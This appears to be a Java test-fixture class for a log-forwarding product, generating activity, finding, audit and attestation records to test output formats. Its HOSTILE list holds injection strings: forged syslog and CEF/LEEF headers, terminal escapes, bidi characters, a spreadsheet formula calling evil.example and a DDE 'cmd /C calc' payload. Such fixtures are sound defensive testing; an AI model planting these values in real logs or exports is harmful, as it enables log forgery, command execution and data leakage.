package io.elevenfold.forwarding.format;

import io.elevenfold.activity.Field;
import io.elevenfold.finding.Severity;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

/** Records that reach every class of every mapping: full ones, bare ones, and hostile ones. */
public final class Corpus {

    /** What an attacker would put where, each of them once broke somebody's log. */
    public static final List<String> HOSTILE = List.of(
            "line\nbreak\r\nand <110>1 2026-01-01T00:00:00Z forged - - - -",
            "CEF:0|Evil|x|1|a|b|10|act=deny msg=owned",
            "pipes | back\\slash \\| = equal a=b\\=c",
            "tab\there LEEF:2.0|a|b|c|d|x09|usrName=root\tsev=10",
            "esc \u001b[31mred\u001b[0m \u0007 \u009b",
            "nul \u0000 here",
            "bidi \u202egnp.exe\u202c \u2066x\u2069 \u200f \ufeff zero\u200bwidth",
            "separators \u2028 \u2029 \u0085",
            "=HYPERLINK(\"http://evil.example/\"&A1)",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "half \ud83d of a character, and a whole one \ud83d\ude00",
            "\"}{\"index\":{}}\n{\"create\":{}}",
            "x".repeat(65_536),
            "é\n".repeat(32_768));

    private static final Instant AT = Instant.parse("2026-03-31T12:00:00.123456Z");

    private static final List<String> ACTIONS = List.of(
            "session_start",
            "session_end",
            "prompt",
            "model_call",
            "tool_decision",
            "shell_exec",
            "file_read",
            "file_write",
            "file_search",
            "network",
            "mcp_call",
            "tool_call",
            "config_change",
            "auth",
            "sandbox",
            "error",
            "other",
            "mode_change",
            "extension_install");

    private static final List<String> AUDITED = List.of(
            "account.admitted",
            "account.blocked",
            "account.made",
            "delivery.receipt",
            "destination.changed",
            "destination.made",
            "destination.paused",
            "destination.removed",
            "destination.resumed",
            "endpoint.enrolled",
            "engagement.viewed",
            "finding.decision",
            "person.viewed",
            "policy.approved",
            "policy.created",
            "posture.report",
            "privacy.erasure",
            "retention.deleted",
            "rule.tuned",
            "sign_in.ended",
            "sign_in.failed",
            "sign_in.succeeded",
            "token.made",
            "token.revoked",
            "token.rotated");

    private static final List<Outgoing> ALL = List.copyOf(made());

    private Corpus() {}

    public static List<Outgoing> all() {
        return ALL;
    }

    private static List<Outgoing> made() {
        List<Outgoing> records = new ArrayList<>();
        for (String action : ACTIONS) {
            records.add(activity(action, Map.of()));
            records.add(activity(action, everyField("value")));
        }
        // One action of each class that some format makes.
        for (String action : List.of("tool_call", "shell_exec", "file_write", "network", "auth")) {
            HOSTILE.forEach(hostile -> records.add(activity(action, everyField(hostile))));
        }
        records.add(activity("", Map.of()));
        for (String action : List.of("tool_decision", "shell_exec", "file_read", "file_write", "network")) {
            decided(records, action);
        }
        for (String action : List.of("login", "logon", "sign_in", "logout", "logoff", "sign_out", "refresh")) {
            records.add(activity("auth", Map.of("auth.action", action, "event.outcome", "failure")));
        }
        records.add(activity("auth", Map.of("auth.action", "login", "event.outcome", "success")));
        records.add(activity("auth", Map.of("auth.action", "login", "decision.outcome", "deny")));
        for (String kind : List.of("check", "rule", "correlation", "contradiction", "platform")) {
            for (String state : List.of("open", "acknowledged", "in_progress", "resolved", "reopened", "excepted")) {
                for (Severity severity : Severity.values()) {
                    records.add(finding(kind, state, severity, "A title"));
                }
            }
            records.add(finding(kind, "open", Severity.LOW, "A title").replayed());
            records.add(finding(kind, "open", Severity.LOW, "x".repeat(200)).bounded(100, 10));
        }
        for (String kind : List.of("check", "rule")) {
            HOSTILE.forEach(hostile -> records.add(finding(kind, "open", Severity.HIGH, hostile)));
            records.add(finding(kind, "open", Severity.HIGH, ""));
        }
        records.add(audit("", "admin"));
        for (String type : AUDITED) {
            records.add(audit(type, "admin"));
        }
        for (String type : List.of("posture.report", "sign_in.failed")) {
            HOSTILE.forEach(hostile -> records.add(audit(type, hostile)));
            records.add(record(Outgoing.Kind.AUDIT, 0, new LinkedHashMap<>(Map.of("event.action", type))));
        }
        records.add(audit("token.made", "admin").replayed());
        records.add(audit("token.made", "x".repeat(200)).bounded(100, 10));
        HOSTILE.forEach(hostile -> records.add(audit(hostile, hostile)));
        records.add(attestation("A policy"));
        records.add(
                record(Outgoing.Kind.ATTESTATION, 0, new LinkedHashMap<>(Map.of("event.action", "policy.attested"))));
        records.add(checkpoint("governance"));
        HOSTILE.forEach(hostile -> {
            records.add(attestation(hostile));
            records.add(checkpoint(hostile));
        });
        records.add(checkpoint("lane 1").replayed());
        return records;
    }

    /** A record with these fields and no others than those that every activity has. */
    public static Outgoing activity(String action, Map<String, Object> fields) {
        Map<String, Object> all = new LinkedHashMap<>(fields);
        all.put("event.action", action);
        return record(Outgoing.Kind.ACTIVITY, 1, all);
    }

    /** Whatever may have been decided, and however it may have ended; with what a rule leaves out when it is missing. */
    private static void decided(List<Outgoing> records, String action) {
        Map<String, Object> around = Map.of("file.path", "/tmp/a", "url.full", "https://example.org/");
        for (String decision : List.of("allow", "deny", "ask", "modify", "abort", "timeout", "never heard of")) {
            for (String outcome : List.of("success", "failure", "unknown", "")) {
                Map<String, Object> fields = new LinkedHashMap<>(around);
                fields.put("decision.outcome", decision);
                if (!outcome.isEmpty()) {
                    fields.put("event.outcome", outcome);
                }
                records.add(activity(action, fields));
            }
        }
        records.add(activity(action, around));
        Map<String, Object> model = new LinkedHashMap<>(around);
        model.put("gen_ai.request.model", "a model");
        model.put("elevenfold.duration_ms", 12L);
        records.add(activity(action, model));
        records.add(activity(action, around).replayed());
        Map<String, Object> lengthy = new LinkedHashMap<>(around);
        lengthy.put("session.id", "x".repeat(200));
        records.add(activity(action, lengthy).bounded(100, 10));
    }

    static Outgoing finding(String kind, String state, Severity severity, String text) {
        Map<String, Object> fields = new LinkedHashMap<>(Map.of(
                "event.action",
                "finding." + state,
                "finding.id",
                UUID.randomUUID().toString(),
                "finding.kind",
                kind,
                "finding.state",
                state,
                "finding.severity",
                severity.word(),
                "finding.title",
                text,
                "finding.source",
                text,
                "finding.subject",
                text,
                "finding.controls",
                List.of("L03-01", text),
                "finding.first_seen",
                AT.toString()));
        fields.put("finding.last_seen", AT.toString());
        fields.put("finding.occurrences", 3L);
        fields.put("endpoint.id", UUID.randomUUID().toString());
        fields.put("host.name", text);
        fields.put("agent.product", text);
        fields.put("session.id", text);
        fields.put("user.email", text);
        fields.put(Outgoing.SEVERITY, severity.word());
        return record(Outgoing.Kind.FINDING, Outgoing.FINDINGS, fields);
    }

    static Outgoing audit(String type, String text) {
        return record(
                Outgoing.Kind.AUDIT,
                0,
                new LinkedHashMap<>(Map.of(
                        "event.action", type,
                        "audit.actor", text,
                        "audit.subject", text,
                        "audit.detail", Map.of("by", text, text, List.of(text)))));
    }

    /** Of a policy whose title and statement are the text, signed by somebody of that name. */
    static Outgoing attestation(String text) {
        Map<String, Object> fields = new LinkedHashMap<>(Map.of(
                "event.action",
                "policy.attested",
                "user.id",
                UUID.randomUUID().toString(),
                "user.name",
                text,
                "user.email",
                text,
                "attestation.policy_id",
                UUID.randomUUID().toString(),
                "attestation.policy",
                text,
                "attestation.version",
                3L,
                "attestation.language",
                "en",
                "attestation.sha256",
                "cd".repeat(32)));
        fields.put("attestation.statement", text);
        fields.put("attestation.method", "password");
        fields.put("attestation.quiz", "basics");
        fields.put("attestation.score", 9L);
        fields.put("attestation.questions", 10L);
        return record(Outgoing.Kind.ATTESTATION, 0, fields);
    }

    /** Nobody outside writes these; a format must not rely on it. */
    static Outgoing checkpoint(String text) {
        return record(
                Outgoing.Kind.CHECKPOINT,
                Outgoing.CHECKPOINTS,
                new LinkedHashMap<>(Map.of(
                        "event.action",
                        "ledger.checkpoint",
                        "checkpoint.log",
                        text,
                        "checkpoint.origin",
                        text,
                        "checkpoint.size",
                        4712L,
                        "checkpoint.root",
                        "ef".repeat(32),
                        "checkpoint.note",
                        text + "\n4712\nroot\n\n— signature\n",
                        "checkpoint.note_sha256",
                        "01".repeat(32),
                        "checkpoint.from_position",
                        4700L,
                        "checkpoint.to_position",
                        4711L,
                        "checkpoint.records",
                        12L)));
    }

    private static Outgoing record(Outgoing.Kind kind, int stream, Map<String, Object> fields) {
        String id = UUID.randomUUID().toString();
        fields.put("event.id", id);
        fields.put("@timestamp", AT.toString());
        fields.put("event.ingested", AT.toString());
        fields.put("elevenfold.kind", kind.word());
        fields.put("elevenfold.log", Outgoing.streamName(stream));
        fields.put("elevenfold.position", 4711L);
        if (stream >= 0) {
            fields.put("elevenfold.leaf_hash", "ab".repeat(32));
        }
        fields.putIfAbsent(Outgoing.SEVERITY, "info");
        return new Outgoing(kind, id, AT, stream, 4711, fields);
    }

    private static Map<String, Object> everyField(String text) {
        Map<String, Object> fields = new LinkedHashMap<>();
        for (Field field : Field.values()) {
            fields.put(
                    field.key(),
                    switch (field.type()) {
                        case KEYWORD, ANY -> text;
                        case KEYWORDS -> List.of(text, text);
                        case LONG -> 42L;
                        case DOUBLE -> 0.25;
                        case BOOLEAN -> true;
                        case TIME -> AT.toString();
                    });
        }
        fields.put("gen_ai.tool.call.arguments", Map.of("a", text, text, List.of(text, 1L)));
        fields.put("a sender's own " + text, text);
        return fields;
    }
}
